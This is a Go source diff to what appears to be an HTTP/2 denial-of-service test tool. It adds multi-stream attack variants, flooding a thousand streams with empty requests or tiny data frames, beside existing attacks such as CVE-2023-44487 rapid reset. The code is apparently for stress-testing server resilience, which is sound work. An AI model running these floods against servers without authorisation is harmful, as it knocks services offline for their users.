@@ -22,6 +22,8 @@ type attacker struct {
 	block      bytes.Buffer
 	encoder    *hpack.Encoder
 	stream     uint32
+	// next is the stream of the next request, less one, where there are many.
+	next uint32
 	// windows are what may be sent, of the connection under 0.
 	windows map[uint32]int
 	changed sync.Cond
@@ -110,6 +112,65 @@ func (a *attacker) requests(data []byte) error {
 	return a.WriteData(1, false, data)
 }
 
+// streams is how many one connection opens where it has many.
+const streams = 1000
+
+// openMany opens that many streams, once.
+func (a *attacker) openMany() error {
+	for a.stream < 2*streams {
+		stream, err := a.open()
+		if err != nil {
+			return err
+		}
+		a.update(stream, 65535)
+	}
+	return nil
+}
+
+// thousand sends whole requests in a thousand streams, in each as far as flow control lets it.
+func (a *attacker) thousand(data []byte) error {
+	if err := a.openMany(); err != nil {
+		return err
+	}
+	for range streams {
+		a.next = (a.next + 2) % (2 * streams)
+		if a.has(a.next+1, len(data)) {
+			break
+		}
+	}
+	if err := a.take(a.next+1, len(data)); err != nil {
+		return err
+	}
+	return a.WriteData(a.next+1, false, data)
+}
+
+// tiny sends one request to each of a thousand streams, at once.
+func (a *attacker) tiny(request []byte) error {
+	if err := a.openMany(); err != nil {
+		return err
+	}
+	block := bytes.Buffer{}
+	framer := http2.NewFramer(&block, nil)
+	for range streams {
+		a.next = (a.next + 2) % (2 * streams)
+		if err := a.take(a.next+1, len(request)); err != nil {
+			return err
+		}
+		if err := framer.WriteData(a.next+1, false, request); err != nil {
+			return err
+		}
+	}
+	_, err := a.connection.Write(block.Bytes())
+	return err
+}
+
+// has says whether so many octets may be sent in a stream.
+func (a *attacker) has(stream uint32, octets int) bool {
+	a.changed.L.Lock()
+	defer a.changed.L.Unlock()
+	return a.windows[stream] >= octets
+}
+
 var attacks = map[string]func(*attacker) error{
 	// CVE-2023-44487: streams that are reset as soon as they are opened.
 	"rapid-reset": func(a *attacker) error {
@@ -188,6 +249,10 @@ var attacks = map[string]func(*attacker) error{
 	"unknown-fields": func(a *attacker) error {
 		return a.requests(append([]byte{0, 0, 0, 0x1f, 0x40}, bytes.Repeat([]byte{0x78, 1}, 4000)...))
 	},
+	// The same in many streams.
+	"empty-requests-in-a-thousand-streams": func(a *attacker) error { return a.thousand(make([]byte, 16000)) },
+	// One in each frame.
+	"tiny-frames-in-a-thousand-streams": func(a *attacker) error { return a.tiny(make([]byte, 5)) },
 	"empty-data": func(a *attacker) error {
 		if a.stream == 1 {
 			if _, err := a.open(); err != nil {
